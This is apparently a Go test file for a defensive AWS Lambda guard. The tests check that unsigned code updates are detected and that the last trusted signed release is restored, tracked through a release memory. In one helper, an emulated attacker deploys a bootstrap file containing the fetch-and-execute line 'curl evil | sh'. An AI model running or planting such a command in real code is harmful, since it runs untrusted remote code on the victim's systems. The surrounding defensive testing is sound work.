package lambdaguard_test

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/awsproto"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
	"github.com/selfguard/selfguard/shared/finding"
	"github.com/selfguard/selfguard/shared/lambdaguard"
	"github.com/selfguard/selfguard/shared/lambdaguard/decide"
	"github.com/selfguard/selfguard/shared/lambdaguard/observe"
	"github.com/selfguard/selfguard/shared/lambdaguard/snapshot"
	"github.com/selfguard/selfguard/shared/ledger"
	"github.com/selfguard/selfguard/shared/pipeline"
	"github.com/selfguard/selfguard/shared/rules"
)

// releaseBed is a function released as signed version 2, its code signing
// config weakened to Warn so that an unsigned update lands, and a guard
// with a release memory.
func releaseBed(t *testing.T) (*bed, *ledger.Memory) {
	t.Helper()
	w := world()
	w.Functions = append(w.Functions, lambdaemu.FunctionWorld{Name: "rel", CodeWorld: signedFiles("v2"), CodeSigningConfig: cscID,
		Versions: []lambdaemu.VersionWorld{{CodeWorld: signedFiles("v1")}, {CodeWorld: signedFiles("v2")}}})
	b := newBedWith(t, w)
	b.weakenCSC(t)
	mem := &ledger.Memory{}
	b.guard.Releases = mem
	return b, mem
}

func (b *bed) deployUnsigned(t *testing.T, fn string) {
	t.Helper()
	if _, err := b.as(emulator.ActorAttacker).UpdateFunctionCode(context.Background(), &lambda.UpdateFunctionCodeInput{
		FunctionName: aws.String(fn), ZipFile: lambdaemu.ZipOf(map[string]string{"bootstrap": "curl evil | sh"})}); err != nil {
		t.Fatal(err)
	}
	b.settle(t, fn)
}

func (b *bed) settle(t *testing.T, fn string) {
	t.Helper()
	w := lambda.NewFunctionUpdatedV2Waiter(b.as(emulator.ActorAdmin), func(o *lambda.FunctionUpdatedV2WaiterOptions) {
		o.MinDelay, o.MaxDelay = 10*time.Millisecond, 50*time.Millisecond
	})
	if err := w.Wait(context.Background(), &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 10e9); err != nil {
		t.Fatal(err)
	}
}

func totalCalls(stats []awsproto.CallStat) int64 {
	var n int64
	for _, s := range stats {
		n += s.Calls
	}
	return n
}

func callsByOp(stats []awsproto.CallStat) map[string]int64 {
	out := map[string]int64{}
	for _, s := range stats {
		out[s.Operation] += s.Calls
	}
	return out
}

// TestARememberedReleaseDecidesAnUnsignedUpdateInTwoCalls: once the guard
// saw version 2 published trusted, an unsigned update is decided with
// GetFunction and GetFunctionCodeSigningConfig alone (no listing of every
// version), and the code of version 2 is restored after reading it again.
func TestARememberedReleaseDecidesAnUnsignedUpdateInTwoCalls(t *testing.T) {
	b, mem := releaseBed(t)
	ctx := context.Background()
	// The publish event of version 2: nothing to do, the release is learned.
	if d, err := b.guard.Evaluate(ctx, pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2"}); err != nil || len(d.Findings) > 0 {
		t.Fatalf("publish of signed version 2: %v, %+v", err, d.Findings)
	}
	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); !ok || r.Version != 2 {
		t.Fatalf("release remembered %+v %v, want version 2", r, ok)
	}

	b.deployUnsigned(t, "rel")
	b.srv.Env.Calls.Reset()
	d, err := b.guard.Evaluate(ctx, fn("rel"))
	if err != nil {
		t.Fatal(err)
	}
	calls := callsByOp(b.srv.Env.Calls.Stats())
	if got := totalCalls(b.srv.Env.Calls.Stats()); got != 2 || calls["GetFunction"] != 1 || calls["GetFunctionCodeSigningConfig"] != 1 {
		t.Errorf("decided in %d calls %v, want GetFunction and GetFunctionCodeSigningConfig", got, calls)
	}
	if len(d.Actions) != 1 || d.Actions[0].Kind != rules.ActionRestoreCode || d.Actions[0].Params[decide.ParamVersion] != "2" ||
		d.Actions[0].Params[decide.ParamRemembered] == "" {
		t.Fatalf("actions %+v, want a restore of the remembered version 2", d.Actions)
	}
	o := b.guard.Act(ctx, fn("rel"), d.Actions[0])
	if o.Status != pipeline.OutcomeDone {
		t.Fatalf("restore: %s %v", o.Status, o.Err)
	}
	if got, want := aws.ToString(b.latest(t, "rel").Configuration.CodeSha256), aws.ToString(b.version(t, "rel", "2").CodeSha256); got != want {
		t.Errorf("$LATEST holds %s, want version 2's %s", got, want)
	}
}

// TestAStaleRememberedReleaseIsForgottenAndTheVersionsListed: a remembered
// release that no longer holds the code remembered of it (here: a memory
// of other code) is never restored from; the guard forgets it, lists the
// versions, restores the newest trusted one and remembers that.
func TestAStaleRememberedReleaseIsForgottenAndTheVersionsListed(t *testing.T) {
	b, mem := releaseBed(t)
	ctx := context.Background()
	wrong, _ := json.Marshal(snapshot.Code{Version: "2", CodeSha256: "not-the-code-of-version-2", PackageType: snapshot.PackageZip,
		SigningProfileVersionARN: aws.ToString(b.version(t, "rel", "2").SigningProfileVersionArn)})
	if err := mem.RememberRelease(ctx, ledger.Release{Function: "rel", Version: 2, Code: wrong}); err != nil {
		t.Fatal(err)
	}
	b.deployUnsigned(t, "rel")
	d, outs := b.evaluateAndAct(t, fn("rel"))
	if len(outs) != 1 || outs[0].Status != pipeline.OutcomeDone {
		t.Fatalf("outcomes %+v of %v", outs, kinds(d))
	}
	want := aws.ToString(b.version(t, "rel", "2").CodeSha256)
	if got := aws.ToString(b.latest(t, "rel").Configuration.CodeSha256); got != want {
		t.Errorf("$LATEST holds %s, want version 2's %s", got, want)
	}
	r, ok, _ := mem.TrustedRelease(ctx, "rel")
	var c snapshot.Code
	if ok {
		_ = json.Unmarshal(r.Code, &c)
	}
	if !ok || r.Version != 2 || c.CodeSha256 != want {
		t.Errorf("remembered %v version %d sha %s, want version 2 with its real code %s", ok, r.Version, c.CodeSha256, want)
	}
}

// TestARememberedReleaseWhoseSigningJobWasRevokedIsNotRestored: memory
// keeps what Lambda recorded, never Signer's word; Signer is asked about a
// remembered target as about a listed one, and a revoked one is not it.
func TestARememberedReleaseWhoseSigningJobWasRevokedIsNotRestored(t *testing.T) {
	b, mem := releaseBed(t)
	b.guard.Signatures = observe.NewSignatures(b.signer(t, emulator.ActorGuard), b.guard.Settings)
	b.guard.Signatures.Now = b.srv.Env.Clock.Now
	ctx := context.Background()
	if _, err := b.guard.Evaluate(ctx, pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2"}); err != nil {
		t.Fatal(err)
	}
	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); !ok || r.Version != 2 {
		t.Fatalf("release remembered %+v %v, want version 2", r, ok)
	}
	// The guard forgets Signer's answer on the revocation's own event.
	b.guard.Signatures.Forget(b.revokeJob(t, "rel", "2"))
	b.deployUnsigned(t, "rel")
	d, err := b.guard.Evaluate(ctx, fn("rel"))
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range d.Actions {
		if a.Kind == rules.ActionRestoreCode && a.Params[decide.ParamVersion] == "2" {
			t.Fatalf("plans to restore version 2, whose signing job is revoked: %+v", a)
		}
	}
}

// TestARememberedReleaseKeepsNoSecretsNorSignersWord: the ledger keeps what
// the decision judges of a release, the loader variables of its
// environment but no other variable, and never Signer's word.
func TestARememberedReleaseKeepsNoSecretsNorSignersWord(t *testing.T) {
	r, err := lambdaguard.ReleaseOf("rel", snapshot.Code{Version: "2", CodeSha256: "sha",
		Environment: map[string]string{"DB_PASSWORD": "hunter2", "NODE_OPTIONS": "--require ./trace.js"},
		Signature:   &snapshot.Signature{}})
	if err != nil {
		t.Fatal(err)
	}
	var c snapshot.Code
	if err := json.Unmarshal(r.Code, &c); err != nil {
		t.Fatal(err)
	}
	if _, ok := c.Environment["DB_PASSWORD"]; ok || c.Environment["NODE_OPTIONS"] != "--require ./trace.js" || c.Signature != nil {
		t.Errorf("remembered %+v, want NODE_OPTIONS alone and no signature", c)
	}
	if _, err := lambdaguard.ReleaseOf("rel", snapshot.Code{Version: "$LATEST"}); err == nil {
		t.Error("$LATEST remembered as a release")
	}
}

// TestAReleaseSeenAtAGlanceDecidesAQuickUnsignedUpdateInTwoCalls: events
// as they arrive are quick. The publish of signed version 2 is settled at
// a glance and still teaches the release; the unsigned update after it is
// decided with the glance's GetFunction (not read twice) and
// GetFunctionCodeSigningConfig, and restores version 2 from memory.
func TestAReleaseSeenAtAGlanceDecidesAQuickUnsignedUpdateInTwoCalls(t *testing.T) {
	b, mem := releaseBed(t)
	ctx := context.Background()
	publish := pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2", Quick: true}
	if d, err := b.guard.Evaluate(ctx, publish); err != nil || len(d.Findings) > 0 {
		t.Fatalf("publish of signed version 2: %v, %+v", err, d.Findings)
	}
	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); !ok || r.Version != 2 {
		t.Fatalf("release remembered %+v %v, want version 2 learned at a glance", r, ok)
	}

	b.deployUnsigned(t, "rel")
	b.srv.Env.Calls.Reset()
	update := pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Quick: true}
	d, err := b.guard.Evaluate(ctx, update)
	if err != nil {
		t.Fatal(err)
	}
	calls := callsByOp(b.srv.Env.Calls.Stats())
	if got := totalCalls(b.srv.Env.Calls.Stats()); got != 2 || calls["GetFunction"] != 1 || calls["GetFunctionCodeSigningConfig"] != 1 {
		t.Errorf("decided in %d calls %v, want one GetFunction (the glance) and GetFunctionCodeSigningConfig", got, calls)
	}
	if len(d.Actions) != 1 || d.Actions[0].Params[decide.ParamRemembered] == "" {
		t.Fatalf("actions %+v, want a restore of the remembered version 2", d.Actions)
	}
	if o := b.guard.Act(ctx, update, d.Actions[0]); o.Status != pipeline.OutcomeDone {
		t.Fatalf("restore: %s %v", o.Status, o.Err)
	}
}

// TestARoleBorrowingVersionIsNeverRemembered: a version that runs with one
// of the stack's roles is contained, never kept as the release to go back to.
func TestARoleBorrowingVersionIsNeverRemembered(t *testing.T) {
	const stackRole = "arn:aws:iam::" + account + ":role/selfguard-lambda-guard"
	w := world()
	w.Functions = append(w.Functions, lambdaemu.FunctionWorld{Name: "rel", CodeWorld: signedFiles("v2"), CodeSigningConfig: cscID,
		Role: stackRole, Versions: []lambdaemu.VersionWorld{{CodeWorld: signedFiles("v1")}, {CodeWorld: signedFiles("v2")}}})
	b := newBedWith(t, w)
	mem := &ledger.Memory{}
	b.guard.Releases = mem
	b.guard.Settings.Mode = finding.ModeMonitor // learned at once, no action to wait for
	b.guard.Settings.StackRoleARNs = []string{stackRole}
	ctx := context.Background()
	d, err := b.guard.Evaluate(ctx, pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2"})
	if err != nil {
		t.Fatal(err)
	}
	if got := ruleIDs(d); len(got) == 0 {
		t.Fatalf("no finding on a function running with the stack's role")
	}
	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); ok {
		t.Errorf("remembered version %d, which runs with the stack's role", r.Version)
	}
}

// countedReleases counts the release memory's reads and writes.
type countedReleases struct {
	ledger.Memory
	reads, writes int
}

func (c *countedReleases) TrustedRelease(ctx context.Context, fn string) (ledger.Release, bool, error) {
	c.reads++
	return c.Memory.TrustedRelease(ctx, fn)
}

func (c *countedReleases) RememberRelease(ctx context.Context, r ledger.Release) error {
	c.writes++
	return c.Memory.RememberRelease(ctx, r)
}

// TestExemptAndOwnFunctionsCostTheReleaseMemoryNothing: an exempt function
// is read for its role only and the guard's own never acted on, so neither
// is ever restored: no release of theirs is read or written.
func TestExemptAndOwnFunctionsCostTheReleaseMemoryNothing(t *testing.T) {
	b := ownBed(t)
	mem := &countedReleases{}
	b.guard.Releases = mem
	ctx := context.Background()
	for _, s := range []pipeline.Subject{fn("sandbox-play"), fn(ownName), {Type: finding.ResourceFunction, Name: ownName, Qualifier: "1"}} {
		if _, err := b.guard.Evaluate(ctx, s); err != nil {
			t.Fatalf("%+v: %v", s, err)
		}
	}
	if mem.reads+mem.writes != 0 {
		t.Errorf("release memory read %d and written %d times, want never", mem.reads, mem.writes)
	}
}

// TestAReleaseIsWrittenOncePerInstance: a flood of benign events settled at
// a glance (the same version published, an alias moved back to it) writes
// its release to the ledger once, not once per event.
func TestAReleaseIsWrittenOncePerInstance(t *testing.T) {
	b, _ := releaseBed(t)
	mem := &countedReleases{}
	b.guard.Releases = mem
	ctx := context.Background()
	publish := pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2", Quick: true}
	for i := 0; i < 3; i++ {
		if d, err := b.guard.Evaluate(ctx, publish); err != nil || len(d.Findings) > 0 {
			t.Fatalf("publish of signed version 2: %v, %+v", err, d.Findings)
		}
	}
	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); !ok || r.Version != 2 || mem.writes != 1 {
		t.Errorf("remembered %d (%v) in %d writes, want version 2 in one", r.Version, ok, mem.writes)
	}
}
